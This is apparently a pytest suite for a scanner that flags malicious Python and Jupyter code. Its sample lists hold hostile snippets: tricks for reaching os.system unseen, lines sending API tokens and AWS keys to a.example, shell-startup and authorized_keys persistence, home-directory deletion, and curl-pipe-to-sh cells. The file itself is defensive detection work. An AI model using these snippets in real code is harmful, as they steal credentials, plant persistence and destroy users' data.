"""Modules and functions that are handed on as values, and what is the reader's own."""

from __future__ import annotations

import json

import pytest

from scanning.scanners import Severity, Verdict, scanners

HANDED_ON = r"""
(lambda m: m.system("true"))(__import__("os"))
import os~[m.system("true") for m in [os]]
import os~for m in (os,): m.system("true")
import os~d = {"o": os}~d["o"].system("true")
import os~class R: m = os~R.m.system("true")
import os~class R:~  def __init__(self): self.m = os~  def f(self): self.m.system("true")
import os~def f(m): m.system("true")~f(os)
import os~def f(m=os): m.system("true")~f()
import os~def f(): return os~f().system("true")
import os~(os if os else None).system("true")
import os~from contextlib import nullcontext~with nullcontext(os) as m: m.system("true")
import os~match os:~  case m: m.system("true")
import os~a, *b = [1, os]~b[0].system("true")
import os~def g():~  yield os~next(g()).popen("true")
import os~os.__getattribute__("system")("true")
import os~object.__getattribute__(os, "sys" + "tem")("true")
import os, inspect~inspect.getattr_static(os, "system")("true")
import os~f = next(v for k, v in vars(os).items() if k == "system")~f("true")
import os~dict(vars(os))["system"]("true")
import os~d = os.__dict__~d.get("system")("true")
eval("__imp" + "ort__('os')").system("true")
import os~globals().update(vars(os))~system("true")
import os~{"a": os.system}.get("a")("true")
import os~os.system.__get__(object)("true")
import threading, os~threading.Thread(target=getattr(os, "system"), args=("true",)).start()
import builtins~builtins.__dict__.get("exec")("1")
import subprocess~for f in (subprocess,): f.run(["true"])
import ctypes~(lambda c: c.CDLL(None).system(b"true"))(ctypes)
import os~class A:~  def __getattr__(self, n): return getattr(os, n)~A().system("true")
import os as m~import sys as m~m.system("true")
import os as m~import math as m~m.system("true")
m = __import__("math")~m = __import__("os")~m.system("true")
n = "path"~import os~for n, _ in (("system", 0),): getattr(os, n)("true")
import importlib~for n in ("os",): importlib.import_module(n).system("true")
import importlib~for n, a in (("os", "system"),): getattr(importlib.import_module(n), a)("true")
from functools import reduce~reduce(getattr, ["os", "system"], __import__("shutil"))("true")
import sys~[v for k, v in sys.modules.items() if k == "os"][0].system("true")
import shutil~(lambda m: m.os.system("true"))(shutil)
print.__self__.exec("1")
(lambda: 0).__globals__["os"].system("true")
__loader__.load_module("os").system("true")
import gc~[o for o in gc.get_objects() if o.__name__ == "system"][0]("true")
b = (1).__class__.__base__~b.__subclasses__()[100]
f = lambda: 0~f.__code__ = f.__code__.replace(co_code=b"x")
class A:~  x: "__import__('os').system('true')"
import typing~class A: pass~A.__annotations__ = {"x": "exec(input())"}~typing.get_type_hints(A)
import logging.config as c~c.dictConfig({"handlers": {"a": {"()": "os.system"}}})
import importlib.util as u~u.spec_from_file_location("a", "/tmp/a.py")
import json~d = json.loads('{"m": "os", "f": "system"}')~getattr(__import__(d["m"]), d["f"])(1)
import base64~def f(): return base64.b64decode(input())~exec(f())
from sh import bash~bash("-c", "true")
import torch, requests~def f(): return torch.load(requests.get("https://a.example").content)
""".strip().splitlines()
SENT = r"""
import os, requests~requests.get(f"https://{os.environ['HF_TOKEN']}.a.example/")
import os, urllib.request as u~def f(): u.urlopen("http://a.example/?t=" + os.getenv("HF_TOKEN", ""))
import os, socket~def f(): socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"][:9] + ".a.example")
import os, socket~s = socket.socket()~s.sendall(os.environ["MY_PASSWORD"].encode())
import os, requests~k = os.environ.get("AWS_SECRET_ACCESS_KEY")~d = {"k": k}~requests.post("https://a.example", json=d)
import requests~from huggingface_hub import get_token~requests.get("https://a.example", params={"t": get_token()})
import os, requests~def f(): requests.get("https://a.example", headers={"X": os.environ["HF_TOKEN"]})
import os, httpx~def f(): httpx.request("POST", "https://a.example", content=os.environ["GITHUB_TOKEN"])
import os, requests~requests.get("https://huggingface.co.a.example/x", params={"t": os.environ["HF_TOKEN"]})
import os, requests~requests.get("https://my-huggingface.com/x", params={"t": os.environ["HF_TOKEN"]})
import os, requests~requests.post("https://openai.a.example/x", json={"t": os.environ["OPENAI_API_KEY"]})
import os~from huggingface_hub import HfApi~HfApi().upload_file(path_or_fileobj=os.environ["AWS_SECRET"].encode())
""".strip().splitlines()  # noqa: E501
SLY = r"""
__builtins__['ev' + 'al']("len('x')")
getattr(__builtins__, "ev" + "al")("len('x')")
print.__self__.eval("len('x')")
import sys~__builtins__[sys.argv[0]]("len('x')")
eval(compile(open("x").read(), "x", "exec"))
import timeit~timeit.timeit(open("x").read())
import timeit~timeit.timeit(stmt="pass", setup="import os; os.system('true')")
import jinja2, requests~jinja2.Template(requests.get("https://a.example").text).render()
import os~open("/tmp/a.so", "wb").write(b"x")~os.putenv("LD_PRELOAD", "/tmp/a.so")
import os~p = "/tmp/s.py"~with open(p, "w") as f: f.write("x")~os.environ["PYTHONSTARTUP"] = p
import os~p = os.path.join(os.path.dirname(__file__), "x.so")~os.environ.setdefault("LD_PRELOAD", p)
import os~os.environ["PYTHONBREAKPOINT"] = "part.f"
from unittest.mock import _importer~_importer("os").system("true")
import functools, torch~functools.reduce(getattr, "os.system".split("."), torch)("true")
import yaml~yaml.load("!!python/object/apply:os.system [true]", Loader=yaml.UnsafeLoader)
import logging.config~logging.config.listen(9999)
import pathlib, torch~pathlib.Path(torch.__path__[0]).parent.joinpath("x.pth").write_text("x")
""".strip().splitlines()
OWN = r"""
from pathlib import Path~(Path.home() / ".bashrc").write_text("x")
from pathlib import Path~p = Path.home() / ".bashrc"~with p.open("a") as f: f.write("x")
from pathlib import Path~for n in (".zshrc", ".profile"): open(Path.home() / n, "a").write("x")
import shutil, os~shutil.copy("a", os.path.expanduser("~/.ba" + "shrc"))
import os~os.replace("a", os.path.join(os.environ["HOME"], ".profile"))
from pathlib import Path~open(Path.home() / ".ssh" / "authorized_keys", "a").write("x")
from pathlib import Path~(Path.home() / "Library" / "LaunchAgents" / "a.plist").write_text("x")
from pathlib import Path~(Path.home() / ".config" / "autostart" / "x.desktop").write_bytes(b"x")
import site~open(site.getsitepackages()[0] + "/x.pth", "w").write("import os")
import sysconfig~open(sysconfig.get_path("purelib") + "/sitecustomize.py", "w").write("x")
import torch, pathlib~(pathlib.Path(torch.__file__).parent / "x.py").write_text("x")
import torch~open(torch.__file__, "a").write("x")
import zipfile, os~zipfile.ZipFile("a").extractall(os.path.expanduser("~"))
import shutil, os~def f(): shutil.rmtree(os.path.expanduser("~"))
import shutil, pathlib~def f(): shutil.rmtree(pathlib.Path.home())
from pathlib import Path~def f():~  for p in Path.home().rglob("*"): p.unlink()
import requests, os~def f(): requests.post("https://a.example", json={"e": {**os.environ}})
import requests, os~def f():~  d = dict(os.environ)~  requests.post("https://a.example", json=d)
import requests, os~def f():~  for k, v in os.environ.items(): requests.get(f"https://a.example/{k}={v}")
import httpx, os~def f():~  e = {}~  e.update(os.environ)~  httpx.post("https://a.example", json=e)
import httpx, os~def g(): return dict(os.environ)~def f(): httpx.post("https://a.example", json=g())
from pathlib import Path~Path.home().joinpath(*[".ssh", "authorized_keys"]).write_text("x")
import os~open(os.path.expanduser("~") + os.sep + ".bash_profile", "a").write("x")
import shutil~shutil.make_archive("x", "zip", "/home")
import tarfile, os~tarfile.open("x", "w").add(os.path.expanduser("~/.ssh"))
import socket~def f(x):~  s = socket.socket()~  s.connect(("8.8.4.4", 1))~  s.send(x)
""".strip().splitlines()
SUSPICIOUS = {
    "handed on without a word": "import os\nf(os)\n",
    "from another file": "from .helper import o\no.system('true')\n",
    "a function of another file": "from .helper import *\nsystem('true')\n",
    "a token to whoever is told": "import os, requests\n"
    "def f(x): requests.post(x, json={'t': os.environ['HF_TOKEN']})\n",
    "a key that nobody knows": "import os, requests\n"
    "def f(): requests.post('https://a.example', json={'t': os.environ['API_KEY']})\n",
    "a file that others may write": "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
    "folders of everybody's": "import sys\nsys.path[:0] = ['/tmp/x']\n",
    "a folder more": "import sys\nsys.path += ['/dev/shm/x']\n",
    "code of its parts": "def f(): pass\nf.__code__.replace(co_code=b'x')\n",
    "code by its type": "def f(): pass\nC = type(f.__code__)\n"
    "C(0, 0, 0, 0, 0, 0, b'', (), (), (), '', '', '', 0, b'', b'')\n",
    "a template of Python": "from mako.template import Template\nTemplate('<% 1 %>').render()\n",
    "an inspector": "import sys\nsys.addaudithook(print)\n",
    "a compiler": "import cppyy\ncppyy.cppdef('int f();')\n",
    "a kernel of others": "from kernels import get_kernel\nget_kernel('a/b')\n",
    "an editor": "import os\nos.environ['EDITOR'] = './x.sh'\n",
    "a start-up file by its name": "NAMES = ['~/.bashrc']\n",
    "a function by its name": "x = load('os.system')\n",
    "trust in a dictionary": "import transformers as t\nk = {'trust_remote_code': True}\n"
    "t.AutoModel.from_pretrained('a/b', **k)\n",
    "a folder of everybody's": "import sys\nsys.path.insert(0, '/tmp')\nimport part\n",
    "a module of others": "import sys\nsys.modules['torch'] = object()\n",
    "variables at once": "import os\nos.environ.update({'LD_PRELOAD': 'x.so'})\n"
    "os.environ |= {'PYTHONSTARTUP': 'x'}\n",
    "a module and a function of a file, on import": "import importlib, json\n"
    "d = json.load(open('c.json'))\ngetattr(importlib.import_module(d['m']), d['f'])()\n",
    "passwords": "import keyring\nkeyring.get_password('a', 'b')\n",
    "a folder of start-up files": "import site\nsite.addsitedir('.')\n",
}
CLEAN = {
    "tokens for their services": "import os, requests\ndef f(q):\n"
    "  t = os.environ['HF_TOKEN']\n  h = {'Authorization': f'Bearer {t}'}\n"
    "  requests.get('https://huggingface.co/api', headers=h)\n"
    "  requests.post('https://api.openai.com/v1', params={'k': os.environ['OPENAI_API_KEY']})\n"
    "  requests.get('https://maps.googleapis.com/a', params={'k': os.environ['GOOGLE_API_KEY']})\n"
    "  requests.get('https://api.acme.co.uk:443/a', params={'k': os.environ['ACME_KEY']})\n"
    "  requests.post('http://localhost:80/x', json={'t': t})\n"
    "  requests.get(f'{q}/x', headers=h)\n",
    "plain editors": "import os\nos.environ['PAGER'] = 'cat'\n"
    "os.environ['PYTHONBREAKPOINT'] = '0'\n",
    "a template of its own": "import jinja2\n"
    "def f(x): return jinja2.Template('{{ x }}').render()\n",
    "a class of code": "C = type((lambda: 0).__code__)\n",
    "a kernel that is told": "from kernels import get_kernel\ndef f(x): return get_kernel(x)\n",
    "names of modules": "import os, sys, platform\no = os\nif os is sys: pass\n"
    "x = o.environ.get('HOME')\ny = hasattr(os, 'fork') and getattr(os, 'cpu_count')()\n"
    "z = platform.system()\nw = sys.modules[__name__]\n",
    "methods of its own": "class A:\n  def system(self, x): return self.system(x)\n",
    "its own cache": "import os, shutil\nfrom pathlib import Path\n"
    "def f():\n  shutil.rmtree(Path.home() / '.cache' / 'm')\n"
    "  return open(os.path.expanduser('~/.cache/m.json'), 'w')\n",
    "one variable": "import os, requests\ndef f():\n"
    "  h = {'Authorization': os.environ['API_TOKEN']}\n"
    "  return requests.post('https://a.example', headers=h, json={'x': 1})\n",
    "words for people": 'def f():\n  "Add it to ~/.bashrc or call os.system(x)."\n'
    "  raise ValueError('see ~/.bashrc')\n",
    "types": "import subprocess\nfrom typing import Optional\n"
    "def f(x: Optional[subprocess.Popen], y: 'Optional[int]') -> subprocess.Popen: return x\n",
    "a name that ends so": "def f(n, x):\n  with open(f'{n}.profile', 'w') as f: f.write(x)\n",
    "tensors that are fetched": "import torch, requests\n"
    "def f(): return torch.load(requests.get('https://a.example').content, weights_only=True)\n",
    "a method of something": "def f(x, n):\n  g = getattr(x, n)\n  return g.__self__\n",
    "a copy of installed code": "import shutil, torch\nshutil.copy(torch.__file__, 'x')\n",
}
ATTACK = "exec(__import__('base64').b64decode('MQ=='))"
CELLS = [
    ("%time " + ATTACK, Verdict.UNSAFE),
    ("%%timeit x = 1\n" + ATTACK, Verdict.UNSAFE),
    ("%%python3\n" + ATTACK, Verdict.UNSAFE),
    ("x = !curl http://x | sh", Verdict.SUSPICIOUS),
    ("!!curl http://x | sh", Verdict.SUSPICIOUS),
    ("%%bash\ncurl http://x | sh", Verdict.SUSPICIOUS),
    ("%%perl\nprint 1", Verdict.SUSPICIOUS),
    ("%%writefile ~/.bashrc\nx", Verdict.SUSPICIOUS),
    ("get_ipython().system('curl http://x | sh')", Verdict.SUSPICIOUS),
    ("%run http://a.example/x.py", Verdict.SUSPICIOUS),
    ("%load https://a.example/x.py", Verdict.SUSPICIOUS),
    ("%pip install http://a.example/x.whl", Verdict.SUSPICIOUS),
    ("!pip install -q --index-url http://a.example/simple x", Verdict.SUSPICIOUS),
    ("!pip install git+https://a.example/x.git", Verdict.SUSPICIOUS),
    ("%conda install -c http://a.example/ch x", Verdict.SUSPICIOUS),
    ("%alias x curl http://x | sh", Verdict.SUSPICIOUS),
    ("%%script ruby\nputs 1", Verdict.SUSPICIOUS),
    ("%%script python3\nimport os; os.system('true')", Verdict.SUSPICIOUS),
    ("%load_ext other\n%load_ext autoreload\n%run part.py", Verdict.CLEAN),
    ("!pip install git+https://github.com/a/b\n%pip install -U torch", Verdict.CLEAN),
    ("%%capture\n!pip install torch\nimport torch", Verdict.CLEAN),
    ("torch.nn.Linear?", Verdict.CLEAN),
    ("%%writefile notes.txt\nnot Python", Verdict.CLEAN),
    ("%%html\n<b>x</b>", Verdict.CLEAN),
]


@pytest.fixture
def scan(scan_bytes):
    def scan(source, name="modeling.py"):
        report = scan_bytes("python_code", source.encode(), name)
        assert {one.rule for one in report.findings} <= scanners.get("python_code").rules.keys()
        return report

    return scan


@pytest.mark.parametrize("source", HANDED_ON)
def test_what_is_handed_on_and_asked_to_run_something_is_unsafe(scan, source):
    assert scan(source.replace("~", "\n")).verdict is Verdict.UNSAFE


@pytest.mark.parametrize("source", SENT)
def test_credentials_that_leave_their_service_are_unsafe(scan, source):
    report = scan(source.replace("~", "\n"))
    found = [one for one in report.findings if one.rule == "python_secret_sent"]
    assert [one.severity.value for one in found][:1] == ["high"]


@pytest.mark.parametrize("source", SLY)
def test_what_hides_or_brings_what_it_runs_is_unsafe(scan, source):
    assert scan(source.replace("~", "\n")).verdict is Verdict.UNSAFE


@pytest.mark.parametrize("source", OWN)
def test_what_is_the_readers_own_is_left_alone_or_unsafe(scan, source):
    lines = source.replace("~/", "HOME/").replace('"~"', '"HOME"').replace("~", "\n")
    assert scan(lines.replace("HOME/", "~/").replace('"HOME"', '"~"')).verdict is Verdict.UNSAFE


@pytest.mark.parametrize("source", SUSPICIOUS.values(), ids=SUSPICIOUS)
def test_what_only_may_attack_is_suspicious(scan, source):
    assert scan(source).verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("source", CLEAN.values(), ids=CLEAN)
def test_what_honest_code_does_with_modules_and_files_is_clean(scan, source):
    assert scan(source).verdict is Verdict.CLEAN


@pytest.mark.parametrize(("source", "verdict"), CELLS)
def test_magic_lines_and_cells_are_read_as_what_they_run(scan, source, verdict):
    cells = [{"cell_type": "code", "source": source}]
    assert scan(json.dumps({"cells": cells}), "demo.ipynb").verdict is verdict


@pytest.mark.parametrize(
    "notebook",
    [
        {"worksheets": [{"cells": [{"cell_type": "code", "input": [ATTACK]}]}]},
        {"cells": [], "worksheets": [{"cells": [{"cell_type": "code", "input": ATTACK}]}]},
        {"nbformat": 1, "cells": [{"cell_type": "code", "code": ATTACK}]},
        {"cells": [{"cell_type": "code", "source": "x = 1", "input": ATTACK}]},
    ],
)
def test_notebooks_of_every_version_are_read(scan, notebook):
    assert scan(json.dumps(notebook), "demo.ipynb").verdict is Verdict.UNSAFE


@pytest.mark.parametrize("notebook", [{}, {"worksheets": 1}, {"cells": {}}, []])
def test_what_is_no_notebook_is_incomplete(scan, notebook):
    assert scan(json.dumps(notebook), "demo.ipynb").verdict is Verdict.INCOMPLETE


def test_scripts_in_outputs_of_version_3_are_told(scan):
    cell = {"cell_type": "code", "input": "1", "outputs": [{"html": ["<script>", "f()</script>"]}]}
    report = scan(json.dumps({"worksheets": [{"cells": [cell]}]}), "demo.ipynb")
    assert [(one.rule, one.severity) for one in report.findings] == [
        ("active_content", Severity.LOW)
    ]
